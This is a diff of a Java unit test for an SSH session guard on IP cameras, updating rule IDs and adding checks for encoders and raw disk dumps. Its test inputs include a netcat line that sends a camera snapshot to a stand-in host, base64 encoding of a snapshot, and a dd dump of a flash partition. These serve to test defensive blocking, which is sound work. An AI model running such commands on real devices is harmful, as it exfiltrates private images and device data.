@@ -47,25 +47,31 @@ class GuardRulesCompilerTest {
         assertThat(g.channelRequest(ChannelKind.EXEC, "uptime").passed()).isTrue();
         var scp = g.channelRequest(StreamGuard.classify("exec", "scp -f /var/snapshots/1.jpg"), "scp -f /var/snapshots/1.jpg");
         assertThat(scp.action()).isEqualTo(GuardAction.BLOCK);
-        assertThat(scp.ruleId()).isEqualTo("shell-and-exec-only.scp");
-        assertThat(g.channelRequest(ChannelKind.SUBSYSTEM, "sftp").ruleId()).isEqualTo("shell-and-exec-only.sftp");
-        assertThat(g.channelRequest(ChannelKind.SUBSYSTEM, "other").ruleId()).isEqualTo("shell-and-exec-only.subsystem");
+        assertThat(scp.ruleId()).isEqualTo("default.channel.scp");
+        assertThat(g.channelRequest(ChannelKind.SUBSYSTEM, "sftp").ruleId()).isEqualTo("default.channel.subsystem");
+        assertThat(g.channelRequest(ChannelKind.SUBSYSTEM, "other").ruleId()).isEqualTo("default.channel.subsystem");
         assertThat(g.channelRequest(ChannelKind.PORT_FORWARD, "127.0.0.1:554").passed()).isFalse();
         assertThat(g.channelRequest(ChannelKind.AGENT, null).passed()).isFalse();
         assertThat(g.channelRequest(ChannelKind.X11, null).passed()).isFalse();
         // an allowed exec is still checked against the policy's input rules
         var execNc = g.channelRequest(ChannelKind.EXEC, "cat /var/snapshots/1.jpg | nc 203.0.113.9 9000");
         assertThat(execNc.passed()).isFalse();
-        assertThat(execNc.ruleId()).isEqualTo("transfer-tools");
+        assertThat(execNc.ruleId()).isEqualTo("default.input.transfer-tool");
     }
 
     @Test
-    void cameraPolicyInputRulesEndTheSessionOnTransferTools() {
+    void cameraPolicyInputRulesBlockEncodersAndEndTheSessionOnTransferTools() {
         StreamGuard g = cameraGuard();
         assertThat(type(g, "tail -n 50 /var/log/messages").passed()).isTrue();
-        var v = type(g, "base64 /var/snapshots/1.jpg");
+        var b = type(g, "base64 /var/snapshots/1.jpg");
+        assertThat(b.action()).isEqualTo(GuardAction.BLOCK);
+        assertThat(b.ruleId()).isEqualTo("default.input.encode-file");
+        var v = type(cameraGuard(), "cat /var/snapshots/1.jpg | nc 203.0.113.9 9000");
         assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
-        assertThat(v.ruleId()).isEqualTo("encoders");
+        assertThat(v.ruleId()).isEqualTo("default.input.transfer-tool");
+        // an exemption (RE2 has no look-ahead; the guard gets one): dd to a file passes, dd to the terminal not
+        assertThat(type(cameraGuard(), "dd if=/dev/zero of=/tmp/blank bs=1k count=4").passed()).isTrue();
+        assertThat(type(cameraGuard(), "dd if=/dev/mmcblk0p3 bs=1M").ruleId()).isEqualTo("default.input.dd-stdout");
     }
 
     @Test
@@ -76,11 +82,11 @@ class GuardRulesCompilerTest {
         byte[] jpeg = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0};
         var v = g.output(jpeg, 0, jpeg.length);
         assertThat(v.action()).isEqualTo(GuardAction.TERMINATE);
-        assertThat(v.ruleId()).isEqualTo("all-detectors.signatures");
+        assertThat(v.ruleId()).isEqualTo("default.output.binary");
 
         var caps = PolicyLoader.loadDefault().guardRules(ctx("cam-anz-01", "ip-camera")).output().volumeCaps();
         assertThat(caps).singleElement().satisfies(c -> {
-            assertThat(c.id()).isEqualTo("all-detectors.volume");
+            assertThat(c.id()).isEqualTo("default.output.volume");
             assertThat(c.maxBytes()).isEqualTo(50L * 1024 * 1024);
             assertThat(c.maxBytesPerSecond()).isEqualTo(2L * 1024 * 1024);
             assertThat(c.rateWindow()).isEqualTo(Duration.ofSeconds(10));
